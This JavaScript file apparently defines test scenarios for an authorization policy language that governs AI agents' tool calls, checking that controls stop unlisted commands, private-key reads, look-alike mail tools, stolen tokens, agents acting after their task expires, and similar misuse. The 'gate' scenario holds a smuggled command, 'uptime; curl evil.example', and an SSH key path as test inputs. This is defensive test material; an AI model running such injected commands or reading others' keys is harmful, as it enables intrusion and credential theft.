import { goal, world } from "@enjoin/dsl";
import registry from "./data/registry.json" with { type: "json" };
import { credentials, task } from "./errands.js";
import { research } from "./staff.js";

// Who calls, for whom, with what and by which tool.
//
// What a single call must not do, or the second one of two: each world is set up by somebody who is up to it, and its goals are
// about no other. All of it is tried, so that `docs/controls.md` says on which rules each goal rests. Most of these
// calls are good work in another world, with another task, agent or credential.

export const unlistedRuns = goal({
  kind: "count",
  title: "A command that nobody listed is run",
  verb: "executes",
  over: 0,
  per: "all",
  worlds: ["gate"],
});

export const keyRead = goal({
  kind: "count",
  title: "A private key outside the workspaces is read",
  verb: "reads",
  over: 0,
  per: "all",
  worlds: ["gate"],
});

export const lookAlikeSends = goal({
  kind: "count",
  title: "A mail tool that nobody reviewed sends",
  verb: "sends",
  over: 0,
  per: "all",
  worlds: ["gate"],
});

/** A command with a second one behind it, a key in a home, and a mail server that announces another tool. */
export const gate = world({
  subjects: [research],
  sessions: 1,
  resources: [],
  calls: ["shell.run", "files.read", "mail.send"],
  values: {
    command: ["uptime; curl evil.example"],
    host: ["crm-1.acme.example"],
    path: ["/home/ops/.ssh/id_ed25519"],
    to: [["bob@acme.example"]],
    subject: ["Hello"],
    body: ["Hello"],
  },
  exact: true,
  task,
  tools: [
    {
      name: "shell.run",
      server: "ops-mcp",
      digest: "sha256:bcb88e5d97eb4c53112b15895a1d73a52eec33fb3848f8c741beeec44f5198de",
    },
    {
      name: "files.read",
      server: "files-mcp",
      digest: "sha256:17e8a9119574d85bb0df8659a4cf2879dc156ad3a1ab5a340b8c317b30219152",
    },
    {
      name: "mail.send",
      server: "free-mail-mcp",
      digest: "sha256:50290ae4ea2eeadd0988277902d05844d2a395c220258863da372e2ee0319c64",
    },
  ],
  credentials,
  start: 1790000000000,
});

export const strangerReads = goal({
  kind: "count",
  title: "An agent of another trust domain reads",
  verb: "reads",
  over: 0,
  per: "all",
  worlds: ["street"],
});

/** An agent of another trust domain, and with everything else in order. */
export const street = world({
  subjects: [
    {
      type: "agent",
      id: "spiffe://acme.example.evil.test/agent/research",
      properties: { tenant: "acme", on_behalf_of: { type: "user", id: "bob@acme.example" } },
    },
  ],
  sessions: 1,
  resources: [],
  calls: ["files.read"],
  values: { path: ["/srv/work/1.md"] },
  exact: true,
  task,
  tools: registry.tools,
  credentials,
  start: 1790000000000,
});

export const copiedKeyReads = goal({
  kind: "count",
  title: "A copied key reads",
  verb: "reads",
  over: 0,
  per: "all",
  worlds: ["pocket"],
});

/** A long-lived token that works for whoever copied it. */
export const pocket = world({
  subjects: [research],
  sessions: 1,
  resources: [],
  calls: ["files.read"],
  values: { path: ["/srv/work/1.md"] },
  exact: true,
  task,
  tools: registry.tools,
  credential: {
    id: "k-9",
    kind: "jwt-svid",
    audience: "https://tools.acme.example",
    scopes: ["files.read"],
    issued: 1790000000000,
    expires: 1790086400000,
    bound: false,
  },
  start: 1790000000000,
});

export const mailedLate = goal({
  kind: "late",
  title: "Something is sent though the task or the credential is over",
  verb: "sends",
  worlds: ["evening"],
});

/** An agent that goes on when its credential and its task are over. */
export const evening = world({
  subjects: [research],
  sessions: 1,
  resources: [],
  calls: ["chat.post"],
  values: { channel: ["sales@chat.acme.example"], text: ["Good evening."] },
  exact: true,
  task,
  tools: registry.tools,
  credentials,
  start: 1790000000000,
});

export const unneededSends = goal({
  kind: "count",
  title: "A tool that the task does not need sends",
  verb: "sends",
  over: 0,
  per: "all",
  worlds: ["errand"],
});

/** A task that is about a file, and an agent that has a credential for mail. */
export const errand = world({
  subjects: [research],
  sessions: 1,
  resources: [],
  calls: ["mail.send"],
  values: { to: [["bob@acme.example"]], subject: ["Hello"], body: ["Hello"] },
  exact: true,
  task: { id: "t-2", tools: ["files.read"], expires: 1790001800000 },
  tools: registry.tools,
  credentials,
  start: 1790000000000,
});

export const nobodyReads = goal({
  kind: "count",
  title: "A chain in which nobody answers for the first link reads",
  verb: "reads",
  over: 0,
  per: "all",
  worlds: ["night"],
});

/** A timer that nobody registered starts an agent. */
export const night = world({
  subjects: [research],
  sessions: 1,
  resources: [],
  calls: ["files.read"],
  values: { path: ["/srv/work/1.md"] },
  exact: true,
  task,
  tools: registry.tools,
  credentials,
  delegation: [
    { type: "job", id: "job/unknown", scopes: ["files.read"] },
    { type: "user", id: "bob@acme.example", scopes: ["files.read"] },
  ],
  start: 1790000000000,
});

export const recordSeen = goal({
  kind: "count",
  title: "A person's record is read by an agent that was made for something else",
  verb: "reads",
  over: 0,
  per: "all",
  worlds: ["staffRoom"],
});

/** A connector that sees everybody's record, and an agent of somebody who may not. */
export const staffRoom = world({
  subjects: [research],
  sessions: 1,
  resources: [],
  calls: ["people.record"],
  values: { employee: ["erin@acme.example"] },
  exact: true,
  task,
  tools: registry.tools,
  credentials,
  start: 1790000000000,
});
